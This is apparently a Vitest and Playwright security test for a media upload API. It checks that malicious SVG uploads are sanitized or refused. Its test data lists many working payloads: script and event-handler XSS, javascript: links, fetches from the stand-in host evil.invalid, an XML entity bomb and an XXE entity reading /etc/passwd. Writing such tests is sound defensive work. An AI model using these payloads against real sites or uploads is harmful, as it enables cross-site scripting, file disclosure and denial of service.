/**
 * Malicious SVG files, uploaded and opened in a browser: none runs scripts, fetches or escapes its element.
 */
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Api, loggedIn } from './api.ts'
import { launchBrowser } from './browser.ts'
import { administrator, preparedFolder, type SystemProcess, startProcess } from './process.ts'

const folder = preparedFolder()
let system: SystemProcess
let api: Api
let browser: Browser

beforeAll(async () => {
  system = await startProcess(folder.path)
  api = await loggedIn(system.apiUrl, administrator)
  browser = await launchBrowser()
}, 120_000)
afterAll(async () => {
  await browser?.close()
  await system?.end('SIGTERM')
  folder.remove()
}, 60_000)

/** Target of malicious references. No server listens there; the browser shows attempts. */
const elsewhere = 'http://evil.invalid'
const hit = 'top.harmed=1;alert(1)'
const nested = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${hit}"><script>${hit}</script></svg>`,
).toString('base64')

const inside: Readonly<Record<string, string>> = {
  'a script': `<script>${hit}</script>`,
  'a script from elsewhere': `<script href="${elsewhere}/a.js"/><script xlink:href="${elsewhere}/b.js"/><script src="${elsewhere}/c.js"/>`,
  'a script as data': `<script href="data:text/javascript,${hit}"/>`,
  'a script under another prefix': `<x:script xmlns:x="http://www.w3.org/2000/svg">${hit}</x:script>`,
  'a script in CDATA': `<script><![CDATA[${hit}]]></script>`,
  'HTML scripts': `<script xmlns="http://www.w3.org/1999/xhtml">${hit}</script>`,
  handlers: `<rect width="9" height="9" onload="${hit}" onclick="${hit}" onbegin="${hit}" onmouseover="${hit}" OnFocus="${hit}" tabindex="0"/>`,
  'a handler that an animation starts': `<rect><animate attributeName="x" onbegin="${hit}" begin="0s" dur="1s"/></rect>`,
  'a handler that an animation sets': `<rect id="r"><set attributeName="onclick" to="${hit}"/></rect>`,
  'a foreign object': `<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml" onload="${hit}"><iframe src="javascript:${hit}"/><img src="x" onerror="${hit}"/></body></foreignObject>`,
  'an iframe': `<iframe xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}/frame"/><embed xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}/embed"/>`,
  'links that run': `<a href="javascript:${hit}"><rect width="500" height="500"/></a><a xlink:href="javascript:${hit}"><rect width="500" height="500"/></a>`,
  'an animated link': `<a><animate attributeName="href" values="javascript:${hit}"/><rect width="500" height="500"/></a>`,
  'an image from elsewhere': `<image href="${elsewhere}/i.png" width="9" height="9"/><image xlink:href="//evil.invalid/j.png" width="9" height="9"/>`,
  'a drawing in an image': `<image href="data:image/svg+xml;base64,${nested}" width="9" height="9"/>`,
  'a page in an image': `<image href="data:text/html,&lt;script>${hit}&lt;/script>" width="9" height="9"/>`,
  'use of another document': `<use href="${elsewhere}/u.svg#a"/><use xlink:href="data:image/svg+xml;base64,${nested}#a"/>`,
  'use of itself without end': `<g id="a"><use href="#b"/><use href="#b"/></g><g id="b"><use href="#a"/><use href="#a"/></g><use href="#a"/>`,
  'filters from elsewhere': `<filter id="f"><feImage href="${elsewhere}/f.png"/></filter><rect width="9" height="9" filter="url(#f)"/><rect filter="url(${elsewhere}/g.svg#f)"/>`,
  'paint from elsewhere': `<rect width="9" height="9" fill="url(${elsewhere}/p.svg#a)" mask="url('${elsewhere}/m.svg#a')" style="clip-path:url(${elsewhere}/c.svg#a)"/>`,
  'an imported style': `<style>@import "${elsewhere}/a.css";@import url(${elsewhere}/b.css);</style>`,
  'a font from elsewhere': `<style>@font-face{font-family:f;src:url(${elsewhere}/f.woff)}text{font-family:f}</style><text y="9">x</text>`,
  'style that fetches': `<style>rect{background:url(${elsewhere}/s.png);cursor:url(${elsewhere}/c.cur),auto;mask-image:image-set("${elsewhere}/m.png" 1x);fill:\\75rl(${elsewhere}/e.svg#a)}</style><rect width="9" height="9"/>`,
  'style in strings and comments': `<style>rect{font-family:"/*";fill:url(${elsewhere}/x.svg#p)}b{font-family:"*/"}</style><rect width="9" height="9"/>`,
  'style that ends itself': `<style><![CDATA[</style><script>${hit}</script>]]></style>`,
  'a base for all': `<g xml:base="${elsewhere}/"><image href="i.png" width="9" height="9"/><use href="#a"/></g>`,
  'sound and film': `<audio xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}/a.mp3" autoplay=""/><video xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}/v.mp4"/>`,
  'a stylesheet of the document': `<?xml-stylesheet href="${elsewhere}/d.css" type="text/css"?><rect/>`,
  'a refresh': `<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${elsewhere}/r"/><link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${elsewhere}/l.css"/>`,
  'text that HTML reads otherwise': `<title><![CDATA[</title><img src=x onerror=${hit}>]]></title><desc>&lt;/desc>&lt;img src=x onerror=${hit}></desc><text>&lt;/svg>&lt;script>${hit}&lt;/script></text>`,
  'attributes that HTML reads otherwise': `<text id="&quot;>&lt;img src=x onerror=${hit}>" class="'&gt;&lt;script&gt;${hit}&lt;/script&gt;">x</text>`,
}

const svg = (text: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="600" onload="${hit}">${text}</svg>`

const refused: Readonly<Record<string, string>> = {
  'a bomb of entities': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n} "${`&${n ? `a${n - 1}` : 'a'};`.repeat(10)}">`).join('')}]>${svg('<text>&a8;</text>')}`,
  'an entity from elsewhere': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  'a parameter entity from elsewhere': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${elsewhere}/x.dtd">%x;]>${svg('')}`,
  'nesting without end': svg('<g>'.repeat(100_000) + '</g>'.repeat(100_000)),
  'a page with the name of a drawing': `<html><body><script>${hit}</script></body></html>`,
  'what is not closed': `<svg xmlns="http://www.w3.org/2000/svg"><script>${hit}`,
}

const upload = (source: string) => {
  const form = new FormData()
  form.set('file', new File([source], 'drawing.svg', { type: 'image/svg+xml' }))
  return api.request('POST', '/api/media/upload', { form })
}

/** Harmful actions of a page while and after it was opened and clicked. */
async function harmOf(open: (page: Page) => Promise<unknown>): Promise<string[]> {
  const context = await browser.newContext()
  const page = await context.newPage()
  const harm: string[] = []
  page.on('dialog', (dialog) => {
    harm.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('request', (request) => {
    if (!request.url().startsWith(system.apiUrl) && !request.url().startsWith('data:image/'))
      harm.push(`request ${request.url()}`)
  })
  page.on('popup', () => harm.push('popup'))
  try {
    await open(page)
    await page.mouse.click(5, 5)
    await page.waitForLoadState('networkidle')
    if (await page.evaluate(() => 'harmed' in globalThis)) harm.push('script')
    return harm
  } finally {
    await context.close()
  }
}

describe('a drawing with', () => {
  it.each(Object.entries(inside))(
    '%s is served harmless, and is harmless embedded in a page',
    async (_, text) => {
      const { status, body } = await upload(svg(text))
      expect(status).toBe(201)
      const url = `${system.apiUrl}${body.data?.url}`
      const served = await api.ok('GET', url)
      expect(served.headers.get('content-type')).toBe('image/svg+xml')
      expect(served.headers.get('x-content-type-options')).toBe('nosniff')
      expect(served.headers.get('content-security-policy')).toMatch(/default-src 'none'.*sandbox/)
      const [alone, inPage] = await Promise.all([
        harmOf((page) => page.goto(url)),
        // Without the headers and parsed as HTML, as if a theme embedded it inline.
        harmOf((page) => page.setContent(`<!doctype html><body>${served.text}`)),
      ])
      expect({ alone, inPage }).toEqual({ alone: [], inPage: [] })
    },
  )

  it.each(Object.entries(refused))('%s is refused', async (_, source) => {
    const { status, body } = await upload(source)
    expect([status, body.code]).toEqual([415, 'UNSUPPORTED_FILE_TYPE'])
    expect(body).toMatchObject({ error: 'Unsupported file type', message: expect.stringMatching(/^The .+/) })
  })

  it('an external document type is removed', async () => {
    const { status, body } = await upload(`<!DOCTYPE svg SYSTEM "${elsewhere}/x.dtd">${svg('')}`)
    expect(status).toBe(201)
    expect((await api.ok('GET', `${system.apiUrl}${body.data?.url}`)).text).toMatch(/^<svg /)
  })
})

it('an unsanitized drawing does harm in this test', async () => {
  for (const text of [inside['a script'], inside['an image from elsewhere'], inside['links that run']])
    expect(await harmOf((page) => page.setContent(`<!doctype html><body>${svg(text ?? '')}`))).not.toEqual([])
})
